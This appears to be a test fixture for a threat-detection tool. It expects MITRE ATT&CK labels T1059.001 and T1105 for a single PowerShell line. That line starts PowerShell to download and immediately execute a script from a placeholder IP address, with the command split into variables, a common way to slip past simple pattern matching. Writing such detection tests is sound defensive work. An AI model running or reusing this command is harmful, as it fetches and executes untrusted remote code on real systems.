# expect: T1059.001 T1105
$p = "powershell"; $a = "-c iex(irm http://198.51.100.1/z)"; Start-Process $p $a
